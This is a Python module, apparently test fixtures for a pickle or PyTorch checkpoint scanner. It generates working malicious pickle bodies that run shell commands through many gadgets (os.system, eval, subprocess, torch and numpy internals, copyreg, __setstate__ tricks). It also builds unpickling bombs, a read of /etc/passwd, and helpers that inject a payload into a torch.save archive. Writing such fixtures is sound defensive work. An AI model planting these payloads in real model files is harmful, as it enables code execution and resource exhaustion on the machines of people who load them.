"""Pickles that run a command where Python's own unpickler reads them, and bombs: each a body of opcodes.

A body has neither protocol nor STOP, so that it can stand alone, or inside of another pickle.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path


def text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def named(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def by_stack(module: str, name: str) -> bytes:
    """STACK_GLOBAL, which takes dots in a name for a chain of attributes."""
    return text(module) + text(name) + b"\x93"


def called(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


SYSTEM = named("posix", "system")


def _load_from_bytes(command: str) -> bytes:
    inner = pickle.PROTO + b"\x02" + called(SYSTEM, text(command)) + b"."
    held = archive(inner)
    return called(
        named("torch.storage", "_load_from_bytes"),
        b"B" + struct.pack("<I", len(held)) + held,
    )


def _set_state(command: str) -> bytes:
    """BUILD gives an object an attribute __setstate__, and the next BUILD calls it."""
    made = called(named("argparse", "Namespace"))
    return made + b"}" + text("__setstate__") + SYSTEM + b"sb" + text(command) + b"b"


def _extension(command: str) -> bytes:
    added = called(
        named("copyreg", "add_extension"), text("posix"), text("system"), b"K\x7f"
    )
    return added + b"0\x82\x7f(" + text(command) + b"tR"


def _through_getattr(command: str) -> bytes:
    module = called(named("builtins", "__import__"), text("os"))
    return called(
        called(named("builtins", "getattr"), module, text("system")), text(command)
    )


def _lazily(command: str) -> bytes:
    """map.__new__ runs nothing; tuple.__new__, which looks as harmless as can be, walks through it."""
    waiting = named("builtins", "map") + b"(" + SYSTEM + text(command) + b"\x85t}\x92"
    return named("builtins", "tuple") + b"(" + waiting + b"t}\x92"


def _method(command: str) -> bytes:
    caller = called(named("operator", "methodcaller"), text("system"), text(command))
    return called(caller, called(named("importlib", "import_module"), text("os")))


RUNNING: Mapping[str, Callable[[str], bytes]] = {
    "os.system": lambda command: called(SYSTEM, text(command)),
    "eval": lambda command: called(
        named("builtins", "eval"), text(f"__import__('os').system({command!r})")
    ),
    "exec by INST": lambda command: (
        b"(" + text(f"__import__('os').system({command!r})") + b"ibuiltins\nexec\n"
    ),
    "Python 2's name": lambda command: called(
        named("__builtin__", "eval"), text(f"__import__('os').system({command!r})")
    ),
    "subprocess.Popen": lambda command: called(
        named("subprocess", "check_call"),
        b"]" + b"".join(text(w) + b"a" for w in command.split()),
    ),
    "getattr chain": _through_getattr,
    "pathlib's os": lambda command: called(
        by_stack(Path.__module__, "os.system"), text(command)
    ),
    "argparse's _os": lambda command: called(
        by_stack("argparse", "_os.system"), text(command)
    ),
    "torch's sys": lambda command: called(
        by_stack("torch", "os.system"), text(command)
    ),
    "torch.storage": _load_from_bytes,
    "numpy's runstring": lambda command: called(
        named("numpy.testing._private.utils", "runstring"),
        text(f"import os; os.system({command!r})"),
        b"}",
    ),
    "copyreg and EXT1": _extension,
    "BUILD of __setstate__": _set_state,
    "NEWOBJ_EX": _lazily,
    "methodcaller": _method,
    "OBJ": lambda command: (
        b"(" + SYSTEM.replace(b"posix", b"os") + text(command) + b"o"
    ),
    "pickle in a pickle": lambda command: called(
        named("pickle", "loads"),
        b"B" + _sized(pickle.PROTO + b"\x04" + called(SYSTEM, text(command)) + b"."),
    ),
}
"""Name -> a body that runs a command. (That they all do is tested, too.)"""


def _sized(data: bytes) -> bytes:
    return struct.pack("<I", len(data)) + data


QUIET: Mapping[str, bytes] = {
    "a persistent id that is code": text("module") + named("os", "system") + b"\x86Q",
    "BUILD of __class__": called(named("argparse", "Namespace"))
    + b"}"
    + text("__class__")
    + named("subprocess", "Popen")
    + b"sb",
    "BUILD of an attribute of dict": called(named("collections", "OrderedDict"))
    + b"}"
    + text("__reduce__")
    + b"K\x01sb",
    "copyreg._reconstructor": called(
        named("copyreg", "_reconstructor"),
        named("os", "_Environ"),
        named("builtins", "object"),
        b"N",
    ),
    "EXT4": b"\x84\xff\xff\xff\x7f",
    "an open file": called(named("io", "open"), text("/etc/passwd")),
    "a numpy subclass": called(
        named("numpy.core.multiarray", "_reconstruct"),
        named("numpy", "memmap"),
        b"K\x00\x85",
        b"C\x01b",
    ),
    "a codec that runs": called(named("_codecs", "decode"), text("x"), text("rot13")),
}
"""Bodies that no plain pickle of a checkpoint has, and that by themselves touch nothing."""

_RANGE = called(named("builtins", "range"), b"\x8a\x06\0\0\0\0\0\x01")
BOMBS: Mapping[str, bytes] = {
    "a hundred thousand tuples": b"N" + b"\x85" * 100_000,
    "shared 60 times over": b")q\0" + b"0h\0h\0\x86q\0" * 60,
    "a set of a range": called(named("builtins", "set"), _RANGE),
    "a key that is deep": b"}N" + b"\x85" * 100_000 + b"Ns",
    "text of 4 GiB": b"X\xff\xff\xff\xff",
    "bytes of 2^63": b"\x8e" + b"\xff" * 8,
    "a far memo": b"Nr\xff\xff\xff\xff0j\xff\xff\xff\x7f",
    "one list, many sets": b"("
    + b"".join(b"M" + struct.pack("<H", i) for i in range(50_000))
    + b"lq\0"
    + named("builtins", "set")
    + b"q\1("
    + b"h\1h\0\x85R" * 20_000
    + b"t",
    "a path that doubles": text("a" * 8)
    + b"q\0"
    + (b"0" + named("pathlib", "PosixPath") + b"h\0h\0\x86Rq\0") * 45,
}

_DEEP = b"N" + b"\x85" * 100_000
GADGETS: Mapping[str, bytes] = {
    "a set of what is deep": named("builtins", "set") + b"]" + _DEEP + b"a\x85R",
    "an ordered dict of what is deep": named("collections", "OrderedDict")
    + b"]"
    + _DEEP
    + b"N\x86a\x85R",
    "a layout that is shared": called(
        named("torch.serialization", "_get_layout"), BOMBS["shared 60 times over"]
    ),
}
"""Bombs for what only a table of contents may name."""


def whole(body: bytes) -> bytes:
    # Names of Python 2 are looked for up to protocol 2 only, dots in names from 4 on.
    return b"\x80" + bytes([2 if b"__builtin__" in body else 4]) + body + b"."


def slipped(data: bytes, body: bytes) -> bytes:
    """The archive of a dict with one item more."""
    with zipfile.ZipFile(io.BytesIO(data)) as file:
        members = {name.partition("/")[2]: file.read(name) for name in file.namelist()}
    pickled = members["data.pkl"][:-1] + text("evil") + body + b"s."
    kept = {
        name.removeprefix("data/"): content
        for name, content in members.items()
        if name.startswith("data/")
    }
    return archive(pickled, storages=kept)


def archive(
    pickled: bytes, *, packed: bool = False, storages: Mapping[str, bytes] | None = None
) -> bytes:
    """What torch.save would frame it with."""
    buffer = io.BytesIO()
    how = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", how) as file:
        file.writestr("archive/data.pkl", pickled)
        file.writestr("archive/byteorder", b"little")
        file.writestr("archive/version", b"3\n")
        for name, content in (storages or {}).items():
            file.writestr(f"archive/data/{name}", content)
    return buffer.getvalue()
